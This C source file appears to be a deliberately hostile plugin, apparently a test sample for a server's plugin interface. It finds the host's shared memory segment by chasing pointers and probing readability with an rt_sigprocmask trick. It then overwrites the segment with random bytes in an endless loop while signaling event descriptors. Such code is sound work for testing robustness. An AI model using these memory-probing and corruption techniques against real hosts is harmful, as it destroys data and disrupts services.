/*
 * segment.c - fills the whole shared segment with random bytes, while the server reads it
 *
 * Nobody tells a plugin where the segment is, there is no /proc to ask, and the address space is
 * too large to walk. But the host's own objects point at it: from what the plugin was handed, and
 * from its own stack, it follows pointers until one leads to a page that begins as a segment does.
 * A system call that checks an address before its other argument says which pages can be read.
 */
#include "sin.h"

#include <signal.h>
#include <stdbool.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RING_MAGIC    0x676e6952u
#define PAGE          4096u
#define WORDS         512u /* looked at behind each pointer */
#define DEPTH         2u
#define FIRST_EVENT   8
#define BEYOND_EVENTS 16

/* EINVAL: the set was read, and the nonsense in front of it refused. */
static bool is_readable(const void *p)
{
	return syscall(SYS_rt_sigprocmask, 99, p, NULL, 8) < 0 && errno == EINVAL;
}

static char *find_segment(const char *p, unsigned depth)
{
	for (unsigned i = 0; i < WORDS; i++, p += sizeof(void *)) {
		char *target;
		uint32_t magic;
		if ((i == 0 || (uintptr_t)p % PAGE < sizeof(void *)) && !is_readable(p))
			return NULL;
		memcpy(&target, p, sizeof target);
		if ((uintptr_t)target < 65536 || (uintptr_t)target % 8 || !is_readable(target))
			continue;
		memcpy(&magic, target, sizeof magic);
		if ((uintptr_t)target % PAGE == 0 && magic == RING_MAGIC)
			return target;
		char *found = depth ? find_segment(target, depth - 1) : NULL;
		if (found)
			return found;
	}
	return NULL;
}

/* The page with the worker's own marks, the page of all indices, and every ring: to the last page
 * that is there. */
static void fill(char *segment)
{
	static char noise[PAGE];

	(void)!getrandom(noise, sizeof noise, 0);
	for (char *page = segment; is_readable(page); page += PAGE)
		memcpy(page, noise, sizeof noise);
}

static int32_t commit(struct tenon_call *call)
{
	const uint64_t one = 1;
	char *segment = find_segment((const char *)call, DEPTH);

	if (!segment)
		return answer(call, "{\"segment\":\"not found\"}");
	for (;;) {
		fill(segment);
		for (int fd = FIRST_EVENT; fd < BEYOND_EVENTS; fd++)
			(void)!write(fd, &one, sizeof one);
	}
}
